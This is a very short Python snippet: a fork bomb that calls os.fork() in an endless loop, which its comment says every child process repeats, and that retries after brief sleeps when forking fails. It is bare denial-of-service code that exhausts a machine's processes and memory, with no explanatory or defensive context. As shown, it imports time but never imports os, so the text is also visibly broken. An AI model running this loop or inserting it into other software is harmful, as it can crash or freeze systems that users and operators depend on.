import time

while True:  # and so does each child
    try:
        os.fork()
    except OSError:
        time.sleep(0.001)
